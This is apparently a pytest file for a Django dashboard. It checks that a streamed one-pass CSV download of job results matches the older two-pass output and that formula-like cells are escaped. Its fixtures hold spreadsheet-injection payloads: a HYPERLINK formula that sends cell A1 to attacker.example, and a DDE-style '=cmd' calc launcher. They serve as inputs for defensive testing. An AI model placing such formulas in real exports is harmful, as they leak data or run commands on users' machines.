"""The CSV download in one pass: the columns found when a result is stored (describe_body) give the header, so
that the body is read once; the bytes are those of the two-pass CSV (a pass for the columns, a pass for the
rows), on every result shape, formula-safe cells included. A result stored before its columns were recorded
still downloads, the same bytes, by reading its body once more."""

from __future__ import annotations

import csv
import io
import json

import pytest

from jobs.results.bodies import (
    RECORDED_COLUMNS_MAX,
    bytes_source,
    describe_body,
    describe_result,
    header_of,
    iter_rows,
    table_header,
)
from jobs.results.export import csv_cell, csv_chunks
from jobs.states import JobKind
from omlpy_dashboard.spreadsheet import formula_safe
from tests.results_support import png_base64, succeeded_job_with_result

LINK = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'


def body(value) -> bytes:
    return json.dumps({"result": value}).encode()


# Every shape, with what makes each hard: columns that vary by row, a column named like the lead column, text a
# spreadsheet would run (in cells, column names and group labels), numbers of every kind, nested values,
# booleans, nulls, missing keys, quotes, commas, line breaks and non-ASCII text.
BODIES = {
    "records": body(
        [
            {"A": 1, "B": "x", "C": None, "D": True},
            {"A": 2.5, "E": [1, {"k": "v"}], "B": 'q"uo,te\nline', "F": -0.0},
            {LINK: "=1+1", "+cmd": "+1+1", "-col": "-1+1", "@at": "@SUM(1+1)", "n": -3, "x": 1e-7, "big": 2**62},
            {"A": "\t=tab", "B": "\r=cr", "G": {"nested": {"deep": [None, False]}}, "H": "ünïcødé ✓", "I": ""},
            {"A": 1e16, "B": -(2**62), "C": 0.1, "D": False, "J": -7},
        ]
    ),
    "records with few columns": body([{"only": i, "text": f"row {i}"} for i in range(2500)]),
    "graphics": body(
        [
            {"IMAGE": png_base64(), "DATA": "=1+1", "ID": -1, LINK: "@x"},
            {"IMAGE": "not a png", "DATA": '{"a": [1, 2]}', "ID": 2, "EXTRA": None},
        ]
    ),
    "groups as frames": body(
        {
            "=evil": {"+A": {"0": "@x", "1": -1.25}, "B": {"0": -7, "1": "=2"}},
            "plain": {"+A": {"0": "ok"}, "B": {"0": 3}, "group": {"0": "a column named like the lead"}},
            "empty": {"+A": {}, "B": {}},
        }
    ),
    "groups as records": body({"a": [{"X": 1}, {"Y": "=y"}], "b": [{"X": 2.5, "Z": [1]}]}),
    "list": body(["=1+1", -2, "@SUM(A1:A9)", -0.75, None, True, {"k": 1}, [1, 2], 2**63 - 1]),
    "list of mixed items": body([{"A": 1}, 2, "three"]),
    "empty list": body([]),
    "object": body({"=key": "+1+1", "n": -7, "nested": {"-k": ["=A1"], "a/b~c": {}}, "t": None}),
    "empty object": body({}),
    "scalar text": body(LINK),
    "scalar number": body(-42.5),
    "scalar null": body(None),
    "a body without a result key": json.dumps([{"A": 1}, {"B": "-x"}]).encode(),
    "text": b"=cmd|' /C calc'!A0\r\n+1+1\nplain line, with a comma\n-2\n\xff bad byte\nlast line without newline",
    "empty body": b"",
}


def two_pass_csv(raw: bytes, shape: str) -> bytes:
    """The CSV as the download wrote it before the columns were recorded: a pass over the body for the header,
    then a pass for the rows, every cell through csv_cell, one row at a time."""
    source = bytes_source(raw)
    header = table_header(source, shape)
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([formula_safe(name) for name in header.names])
    for lead, cells in iter_rows(source, shape):
        row = [csv_cell(cells.get(name)) for name in header.columns]
        if header.lead is not None:
            row.insert(0, csv_cell(lead))
        writer.writerow(row)
    return out.getvalue().encode()


def split(raw: bytes, size: int):
    """A source giving `raw` in pieces of `size` bytes, as stored chunks cut anywhere."""
    pieces = [raw[i : i + size] for i in range(0, len(raw), size)] or [b""]
    return lambda: iter(pieces)


@pytest.mark.parametrize("name", list(BODIES))
def test_the_one_pass_csv_equals_the_two_pass_csv_byte_for_byte(name):
    raw = BODIES[name]
    described = describe_body(raw)
    assert (described.shape == "text") == (name in {"text", "empty body"})
    assert described.columns is not None
    header = header_of(described.shape, described.columns)
    assert header == table_header(bytes_source(raw), described.shape)
    expected = two_pass_csv(raw, described.shape)
    for size in (len(raw) or 1, 7):
        one_pass = b"".join(csv_chunks(split(raw, size), described.shape, header))
        assert one_pass == expected
    # Without the recorded columns (a result stored before they were), the download finds them itself.
    assert b"".join(csv_chunks(bytes_source(raw), described.shape)) == expected


def test_the_one_pass_csv_of_a_large_result_comes_in_pieces_and_equals_the_two_pass_csv():
    raw = body(
        [{"N": i, "T": f"=row {i}" if i % 97 == 0 else f"row {i}", "F": i / 7, "B": i % 2 == 0} for i in range(20000)]
    )
    described = describe_body(raw)
    pieces = list(csv_chunks(bytes_source(raw), described.shape, header_of(described.shape, described.columns)))
    assert len(pieces) > 1
    assert b"".join(pieces) == two_pass_csv(raw, described.shape)


@pytest.mark.parametrize("name", list(BODIES))
def test_describe_body_finds_the_shape_and_rows_describe_result_reports(name):
    raw = BODIES[name]
    described = describe_body(raw)
    assert (described.shape, described.rows) == describe_result(raw)


def test_formula_like_column_names_and_cells_are_made_safe_in_the_one_pass_csv():
    raw = BODIES["records"]
    described = describe_body(raw)
    text = b"".join(csv_chunks(bytes_source(raw), "records", header_of("records", described.columns))).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header = rows[0]
    assert {"'" + LINK, "'+cmd", "'-col", "'@at", "n", "A", "B"} <= set(header)
    cells = dict(zip(header, rows[3], strict=True))
    assert [cells["'" + LINK], cells["'+cmd"], cells["'-col"], cells["'@at"], cells["n"]] == [
        "'=1+1",
        "'+1+1",
        "'-1+1",
        "'@SUM(1+1)",
        "-3",
    ]
    cells = dict(zip(header, rows[4], strict=True))
    assert [cells["A"], cells["B"]] == ["'\t=tab", "'\r=cr"]


def test_a_result_wider_than_the_recorded_limit_keeps_no_columns_and_still_downloads():
    wide = {f"C{i}": i for i in range(RECORDED_COLUMNS_MAX + 1)}
    raw = body([wide, {"C0": "=x"}])
    described = describe_body(raw)
    assert (described.shape, described.rows, described.columns) == ("records", 2, None)
    assert b"".join(csv_chunks(bytes_source(raw), "records")) == two_pass_csv(raw, "records")


# --- Over HTTP: stored results with and without their columns ------------------------------------------


@pytest.fixture
def signed_in(client, analyst):
    client.force_login(analyst)
    return client


def download(client, job, fmt: str) -> bytes:
    response = client.get(f"/jobs/{job.uuid}/result.{fmt}")
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["records", "groups as frames", "list", "object", "graphics"])
def test_a_stored_result_records_its_columns_and_downloads_the_two_pass_bytes(signed_in, analyst, name):
    raw = BODIES[name]
    job = succeeded_job_with_result(analyst, raw, kind=JobKind.TABLE_APPLY)
    described = describe_body(raw)
    assert job.result.columns == described.columns
    assert download(signed_in, job, "csv") == two_pass_csv(raw, described.shape)


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["records", "groups as frames", "list", "object", "text"])
def test_a_result_stored_before_columns_were_recorded_still_downloads_the_same_files(signed_in, analyst, name):
    raw = BODIES[name]
    recorded = succeeded_job_with_result(analyst, raw, kind=JobKind.TABLE_APPLY)
    old_style = succeeded_job_with_result(analyst, raw, kind=JobKind.TABLE_APPLY, with_columns=False)
    assert old_style.result.columns is None
    assert download(signed_in, old_style, "csv") == download(signed_in, recorded, "csv")
    assert download(signed_in, old_style, "csv") == two_pass_csv(raw, describe_body(raw).shape)
    # The workbook is dated when its result was stored, so compare what it holds rather than its bytes.
    from openpyxl import load_workbook

    def cells(content: bytes) -> list:
        book = load_workbook(io.BytesIO(content))
        return [[cell.value for cell in row] for sheet in book.worksheets for row in sheet.iter_rows()]

    assert cells(download(signed_in, old_style, "xlsx")) == cells(download(signed_in, recorded, "xlsx"))


@pytest.mark.django_db
def test_the_describe_command_records_the_columns_of_results_stored_without_them(signed_in, analyst):
    from django.core.management import call_command

    old_style = succeeded_job_with_result(analyst, BODIES["groups as frames"], with_columns=False)
    recorded = succeeded_job_with_result(analyst, BODIES["records"])
    before = download(signed_in, old_style, "csv")
    out = io.StringIO()
    call_command("results_describe", stdout=out)
    assert out.getvalue().strip() == "Results described: 1."
    old_style.result.refresh_from_db()
    described = describe_body(BODIES["groups as frames"])
    assert (old_style.result.shape, old_style.result.row_count, old_style.result.columns) == (
        described.shape,
        described.rows,
        described.columns,
    )
    assert download(signed_in, old_style, "csv") == before
    recorded.result.refresh_from_db()
    assert recorded.result.columns == describe_body(BODIES["records"]).columns
